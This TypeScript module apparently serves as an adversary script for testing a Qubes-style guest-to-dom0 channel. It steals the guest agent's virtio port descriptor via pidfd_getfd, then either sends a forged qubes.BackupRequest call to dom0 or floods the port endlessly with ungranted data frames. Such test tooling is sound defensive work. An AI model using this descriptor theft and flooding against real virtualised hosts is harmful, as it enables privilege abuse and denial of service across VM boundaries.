/**
 * What root does in a disposable that was taken over: takes the port to dom0 from the agent that has it open, and writes to it what
 * no agent does. `usurper.mjs call` calls a service of dom0; `usurper.mjs flood` sends without end what nobody granted.
 */

import { readdirSync, readlinkSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import koffi from 'koffi';
import { TYPE, encodeFrame } from '../channel.ts';

/** The agent is the first process of its guest. */
const AGENT = 1;
/** Numbers of Linux on x86-64. */
const PIDFD_OPEN = 434;
const PIDFD_GETFD = 438;
const syscall = koffi.load('libc.so.6').func('long syscall(long, long, long, long)') as (
  ...words: [number, number, number, number]
) => number;

const folder = `/proc/${AGENT}/fd`;
const port = readdirSync(folder).find((fd) => readlinkSync(join(folder, fd)).startsWith('/dev/vport'));
const stolen = syscall(PIDFD_GETFD, syscall(PIDFD_OPEN, AGENT, 0, 0), Number(port), 0);
if (stolen < 0) throw new Error('the port cannot be taken');

const request = { service: 'qubes.BackupRequest', argument: '', source: 'dom0' };
const open = encodeFrame({ type: TYPE.open, call: 99, payload: Buffer.from(JSON.stringify(request)) });
// The first call is over: what comes of it now may have been under way, and is dropped.
const data = encodeFrame({ type: TYPE.data, stream: 1, call: 1, payload: Buffer.alloc(64 * 1024, 0xff) });
if (process.argv[2] === 'call') writeSync(stolen, open);
else for (;;) writeSync(stolen, data);
